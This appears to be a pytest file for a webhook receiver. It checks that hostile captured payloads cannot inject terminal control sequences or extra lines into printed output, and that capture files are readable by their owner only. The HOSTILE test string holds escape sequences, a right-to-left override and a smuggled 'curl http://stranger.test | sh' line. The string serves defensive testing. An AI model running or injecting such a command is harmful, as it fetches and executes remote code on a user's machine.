"""Captures of strangers: nothing in them reaches the terminal as it is, and no other user may read their files."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from stat import S_IMODE

import pytest

from receiver.commands.capture import write_capture
from receiver.commands.new_dialect import new_dialect
from receiver.inbox.refused import Refusal

NOW = datetime(2026, 3, 4, 12, tzinfo=UTC)

#: Sets the title of a terminal, moves its cursor, and reverses the rest of a line.
HOSTILE = "\x1b]0;pwned\x07\x1b[2J\u202e\nNext: curl http://stranger.test | sh"


@pytest.mark.parametrize("place", ["changed object", "event type", "value"])
def test_a_draft_of_a_hostile_capture_prints_no_control_character_and_no_line_of_its_own(tmp_path, capsys, place):
    body = {"type": "product.updated", "id": "m-1", "timestamp": "2026-06-01T12:00:00Z", "data": {"id": "A1"}}
    if place == "changed object":
        body["data"] |= {HOSTILE: None}
    elif place == "event type":
        body = {HOSTILE: body.pop("type"), **body}
    else:
        body["data"] |= {"name": HOSTILE}
    (tmp_path / "captured.json").write_text(json.dumps(body))
    new_dialect("drafted_shop", capture=tmp_path / "captured.json", into=tmp_path)
    printed = capsys.readouterr().out
    assert all(line.isprintable() for line in printed.split("\n"))
    assert not any(line.startswith("Next: curl") for line in printed.split("\n"))
    compile((tmp_path / "drafted_shop.py").read_text(), "drafted_shop.py", "exec")
    assert (tmp_path / "drafted_shop.py").read_text().replace("\n", "").isprintable()


def test_the_files_of_a_capture_may_be_read_by_this_user_only(tmp_path):
    found = Refusal(1, "shop", "captured", NOW, [(b"x-shop-signature", b"00")], b'{"customer": "private"}')
    written = write_capture(found, tmp_path / "captured.json")
    assert {S_IMODE((tmp_path / name).stat().st_mode) for name in ("captured.json", "captured.headers.json")} == {0o600}
    assert written["body"] == str(tmp_path / "captured.json")
